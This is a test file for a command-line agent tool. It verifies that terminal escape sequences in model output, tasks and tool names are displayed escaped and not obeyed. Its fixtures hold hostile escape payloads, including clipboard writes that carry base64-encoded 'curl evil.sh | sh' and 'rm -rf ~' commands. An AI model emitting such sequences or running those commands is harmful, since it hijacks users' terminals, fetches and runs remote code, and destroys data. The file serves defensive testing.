import { join } from "node:path";
import { afterEach, expect, it } from "vitest";
import { ScriptedModelServer } from "../../src/testing/scripted-model-server.js";
import { onTerminal, runTroupe, tempTree } from "../support/cli.js";
import { embeddedDaemon } from "../support/embedded-daemon.js";

/* ATTACK: a model's text and reasoning, a task and a tool's name reach the terminal raw. OSC 52
 * wrote the user's clipboard, OSC 0 the window's title, `\e[2J` cleared the screen and the C1
 * controls U+009B (CSI) and U+009D (OSC) did the same on terminals that take them, through
 * troupe run, the observer's tree, troupe status and replay, and an "unknown tool" error naming a
 * tool with an escape in its name. Now each is shown (`\e]52;…`, `\u009b`), never obeyed. */

const cleanups: Array<() => unknown> = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

const ESC = "\x1b";
const BEL = "\x07";
const HOSTILE = `clipboard ${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL} title ${ESC}]0;you are root${BEL} clear ${ESC}[2J c1 \x9b2J \x9d0;title\x9c`;
const TASK = `Tidy up ${ESC}]52;c;cm0gLXJmIH4=${BEL} and \x9b2J`;
const TOOL = `shell${ESC}]0;owned${BEL}`;

/** What a terminal would obey, from the run: OSC and `\e[2J` sequences, BEL, C1 CSI and OSC. */
function obeyed(output: string): string[] {
  return [...(output.match(new RegExp(`${ESC}\\]|${ESC}\\[2J|${BEL}|\\x9b|\\x9d|\\x9c`, "g")) ?? [])];
}

/** Each hostile sequence as the terminal shows it instead. */
const SHOWN = [
  "\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07",
  "\\e]0;you are root\\x07",
  "\\e[2J",
  "\\u009b2J",
  "\\u009d0;title\\u009c",
];

function script(model: ScriptedModelServer) {
  model.script(
    {
      match: { turn: 1 },
      // Split into many deltas: a sequence cut across two of them is shown all the same.
      reply: {
        reasoning: `thinking ${HOSTILE}`,
        toolCalls: [{ name: TOOL, arguments: { command: "ls" } }],
        chunks: 37,
      },
    },
    { match: { turn: 2 }, reply: { text: `Done: ${HOSTILE}\n`, chunks: 41 }, times: 3 },
  );
}

it("troupe run --local on a terminal shows the model's text and reasoning, and an unknown tool's name, never obeys them", async () => {
  const model = await ScriptedModelServer.start();
  cleanups.push(() => model.close());
  script(model);
  const { dir, dispose } = tempTree({
    "config/troupe.yaml": "defaultAgent: coder\ndefaultModel: scripted\n",
    "config/agents/coder.yaml": "name: coder\ndescription: Codes.\ntools: [shell]\n",
    "ws/README.md": "# a project\n",
  });
  cleanups.push(dispose);
  const run = onTerminal(["--config", join(dir, "config"), "run", "--local", "-w", "ws", TASK], {
    cwd: dir,
    env: {
      ...process.env,
      OPENAI_BASE_URL: model.baseURL,
      OPENAI_API_KEY: "",
      TROUPE_DATA_DIR: join(dir, ".data"),
    },
  });
  cleanups.push(() => void run.child.kill("SIGKILL"));
  expect(await run.exit).toBe(0);
  const output = run.output();
  expect(obeyed(output)).toEqual([]);
  for (const shown of SHOWN) expect(output).toContain(shown);
  expect(output).toContain(
    `▸ shell\\e]0;owned\\x07 {"command":"ls"}  ✗ unknown tool "shell\\e]0;owned\\x07"`,
  );
}, 60_000);

it("a daemon's run: troupe run, the observer's tree, troupe replay and troupe status show the task and the text, never obey them", async () => {
  const model = await ScriptedModelServer.start();
  cleanups.push(() => model.close());
  script(model);
  const h = await embeddedDaemon(
    {
      "config/troupe.yaml": "nats:\n  prefix: termtext\ndefaultAgent: coder\ndefaultModel: scripted\n",
      "config/agents/coder.yaml": "name: coder\ndescription: Codes.\ntools: [shell]\n",
    },
    model.baseURL,
    cleanups,
  );
  await h.start();
  const terminal = (args: string[]) => {
    const running = onTerminal([...h.cfg, ...args], { cwd: h.dir, env: h.env });
    cleanups.push(() => void running.child.kill("SIGKILL"));
    return running;
  };
  const run = terminal(["run", TASK]);
  expect(await run.exit).toBe(0);
  expect(obeyed(run.output())).toEqual([]);
  for (const shown of SHOWN) expect(run.output()).toContain(shown);
  expect(run.output()).toContain('✗ unknown tool "shell\\e]0;owned\\x07"');
  const runId = /run (run-[0-9a-z]+)/.exec(run.output())?.[1] as string;

  // The observer's tree: the run's task on its header line, the agent's last words under it.
  const observe = terminal(["observe", runId]);
  expect(await observe.exit).toBe(0);
  expect(obeyed(observe.output())).toEqual([]);
  expect(observe.output()).toContain("Tidy up \\e]52;c;cm0gLXJmIH4=\\x07 and \\u009b2J");
  expect(observe.output()).toContain("\\u009d0;title\\u009c");

  const replay = terminal(["replay", runId]);
  expect(await replay.exit).toBe(0);
  expect(obeyed(replay.output())).toEqual([]);
  for (const shown of SHOWN) expect(replay.output()).toContain(shown);

  // Another user's task, in troupe status's TASK column.
  const status = await runTroupe([...h.cfg, "status"], { cwd: h.dir, env: h.env });
  expect(obeyed(status.stdout + status.stderr)).toEqual([]);
  expect(status.stdout).toContain("Tidy up \\e]52;c;cm0gLXJmIH4=\\x07 and \\u009");
  const runs = await runTroupe([...h.cfg, "runs"], { cwd: h.dir, env: h.env });
  expect(obeyed(runs.stdout + runs.stderr)).toEqual([]);
  expect(runs.stdout).toContain(runId);
}, 90_000);
